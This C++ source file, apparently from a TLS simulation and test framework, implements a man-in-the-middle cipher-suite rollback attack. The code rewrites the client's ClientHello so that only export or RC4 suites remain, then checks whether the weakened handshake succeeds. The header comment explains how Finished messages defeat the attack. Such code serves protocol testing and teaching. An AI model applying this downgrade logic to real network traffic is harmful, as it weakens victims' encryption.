// suite-rollback: the attacker rewrites the ClientHello in flight so that it offers only the weak
// suites (export, RC4) the client kept for compatibility; the server, seeing nothing better,
// picks one. The Finished messages cover the whole transcript (RFC 5246 7.4.9, SSL 3.0 RFC 6101
// 5.6.9), so each side sees that the other saw a different ClientHello; with the extended master
// secret (RFC 7627) even the keys differ. SSL 2.0 had neither, and so fell to this.
#include <algorithm>

#include "attack/script.hpp"
#include "net/edit.hpp"

namespace sim::attack {

namespace {

bool weak(uint16_t id) {
  const CipherSuiteInfo* s = suite_by_id(id);
  return s && (s->exportable() || s->cipher == BulkCipher::rc4_128 || s->cipher == BulkCipher::rc4_40);
}
// Signalling values, not suites: kept so the change shows nowhere else.
bool signalling(uint16_t id) { return id == 0x00ff || id == 0x5600; }

class SuiteRollback : public Script {
 public:
  SuiteRollback() {
    won_ = msg("attack.suite-rollback.succeeded");
    lost_ = msg("attack.suite-rollback.failed");
  }

  void on_record(const Event& record, Wire& wire) override {
    if (done_ || record.from != Actor::client || handshake_type(record) != HandshakeType::client_hello) return wire.pass();
    done_ = true;
    auto altered = strip(record);
    if (!altered) return wire.pass();
    wire.replace(std::move(*altered), AttackReason(msg("attack.suite-rollback.action")));
  }

 protected:
  bool succeeded(const Trace& t) const override {
    // The weak suite chosen, and the handshake completed with it on both sides.
    return t.handshake_complete && weak(t.negotiated.cipher_suite) && !first_fatal_alert(t);
  }
  std::vector<AttackEvidence> evidence(const Trace& t) const override {
    std::vector<AttackEvidence> ev;
    if (!removed_.empty()) ev.push_back(hex_evidence("suites_removed", msg("evidence.suites_removed"), removed_, first_attack_event(t, AttackAction::Kind::replace)));
    if (t.negotiated.cipher_suite && weak(t.negotiated.cipher_suite)) {
      std::string n = suite_name(t.negotiated.cipher_suite);
      ev.push_back(text_evidence("weak_suite_chosen", msg("evidence.weak_suite_chosen"), to_bytes(n)));
    }
    return ev;
  }

 private:
  // The record with only the weak suites (and signalling values) left; the edit mechanism of
  // net/edit.hpp re-encodes the lengths that cover the list.
  std::optional<Bytes> strip(const Event& record) {
    const Bytes& rec = record.bytes;
    // record header 5, handshake header 4, version 2, random 32, session_id vector
    size_t p = 5 + 4 + 2 + 32;
    if (rec.size() < p + 1) return std::nullopt;
    p += 1 + rec[p];
    if (rec.size() < p + 2) return std::nullopt;
    size_t n = size_t(rec[p]) << 8 | rec[p + 1];
    if (rec.size() < p + 2 + n || n % 2) return std::nullopt;
    // The weakest the client offers: export suites if any (40-bit keys), else RC4.
    bool any_export = false;
    for (size_t i = 0; i < n; i += 2) {
      const CipherSuiteInfo* s = suite_by_id(uint16_t(rec[p + 2 + i] << 8 | rec[p + 3 + i]));
      any_export = any_export || (s && s->exportable());
    }
    auto keep = [&](uint16_t id) {
      const CipherSuiteInfo* s = suite_by_id(id);
      return signalling(id) || (weak(id) && (!any_export || s->exportable()));
    };
    Bytes kept;
    for (size_t i = 0; i < n; i += 2) {
      uint16_t id = uint16_t(rec[p + 2 + i] << 8 | rec[p + 3 + i]);
      Bytes& to = keep(id) ? kept : removed_;
      to.push_back(uint8_t(id >> 8));
      to.push_back(uint8_t(id));
    }
    bool any_weak = false;
    for (size_t i = 0; i + 1 < kept.size(); i += 2) any_weak = any_weak || weak(uint16_t(kept[i] << 8 | kept[i + 1]));
    if (removed_.empty() || !any_weak) {  // nothing weak to roll back to, or nothing to remove
      removed_.clear();
      return std::nullopt;
    }
    auto edited = apply_edits(record, {EditSpec{0, "fragment/ClientHello/cipher_suites", kept, "cipher_suites"}});
    if (auto* ok = std::get_if<EditedRecord>(&edited)) return std::move(ok->bytes);
    removed_.clear();
    return std::nullopt;
  }

  bool done_ = false;
  Bytes removed_;
};

}  // namespace

std::shared_ptr<Attacker> suite_rollback(const ScenarioOptions&) { return std::make_shared<SuiteRollback>(); }

}  // namespace sim::attack
